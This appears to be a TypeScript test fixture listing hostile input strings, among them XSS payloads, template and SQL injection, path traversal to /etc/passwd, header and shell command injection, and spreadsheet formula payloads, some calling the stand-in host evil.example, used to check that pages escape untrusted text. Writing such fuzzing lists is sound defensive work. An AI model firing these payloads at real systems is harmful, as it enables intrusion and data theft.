/** The product that a template engine would print if it evaluated one of the strings. */
export const EVALUATED = String(7919 * 7907);

const PRODUCT = '7919*7907';

/**
 * Texts that break pages which do not escape them, or programs which trust them. Elements and attributes that they would
 * inject are named `x-evil` where they need no other name, and a header `X-Evil`.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  // Elements
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  `'><script src=//evil.example/x.js></script>`,
  '</script><script>alert(1)</script>',
  '</title><svg onload=alert(1)>',
  '</textarea><x-evil>',
  '</style><x-evil>',
  '</select></option><x-evil>',
  '--><x-evil><!--',
  ']]><x-evil>',
  '<img src=x onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action=//evil.example><button>x',
  '<link rel=stylesheet href=//evil.example/x.css>',
  // Attributes
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)' x='",
  'x onclick=alert(1)',
  '` onload=alert(1) x=`',
  '" style="position:fixed;inset:0" x="',
  '" formaction="javascript:alert(1)" x="',
  'expression(alert(1));} body{background:url(//evil.example)}',
  // Entities and encodings
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;x-evil&#x3E; &amp;quot; &nbsp',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜script＞alert(1)＜/script＞',
  // Templates
  `<%= ${PRODUCT} %>`,
  `<%- include('/etc/passwd') %>`,
  `%><% throw new Error('evil') %>`,
  `{{${PRODUCT}}} \${${PRODUCT}} #{${PRODUCT}}`,
  "{{constructor.constructor('alert(1)')()}}",
  '$& $1 $$ $` {name} {amount} {order_id} %s %d',
  // Links
  'javascript:alert(1)',
  ' \u0001JaVa\tScRiPt:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/%2e%2e',
  'https://evil.example@127.0.0.1\\@x/"onclick=alert(1)',
  // Breaking out of JSON, headers, queries, paths and programs
  '"}],"x":{"y":"</script><x-evil>',
  'x\r\nX-Evil: 1\r\n\r\n<x-evil>',
  '%0d%0aX-Evil:%201',
  "'; DROP TABLE orders; -- ",
  '../../../../etc/passwd',
  '..%2f..%2f..%5cwindows\\win.ini',
  '$(touch /tmp/evil) `id` | cat & ; \' "',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  // Numbers
  '1e309',
  '-0',
  'NaN',
  '99999999999999999999999999',
  // Spreadsheets
  '=HYPERLINK("http://evil.example","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  // Unicode
  '\u202Eevil\u202C \u2066x\u2069',
  '\u0000\u0001\u001B[31m\u007F\u0085',
  '\uD800',
  'x\uDC00\uD83D',
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(10),
  `Z${'\u0300\u0489\u035C'.repeat(60)}algo`,
  '\u2028\u2029\uFEFF\u200B\u00AD',
  'ﷺ﷽𒐫'.repeat(8),
  'שלום abc مرحبا',
  'İıßﬁ',
  // Length
  'W'.repeat(256),
  `${'a'.repeat(240)}<x-evil>`,
  ' ',
];

const GROUP_SIZE = 15;

/** The strings for tests that load many pages with each. */
export const GROUPS: readonly (readonly [string, ...string[]])[] = HOSTILE_STRINGS.flatMap((first, index) =>
  index % GROUP_SIZE === 0 ? [[first, ...HOSTILE_STRINGS.slice(index + 1, index + GROUP_SIZE)] as const] : [],
);
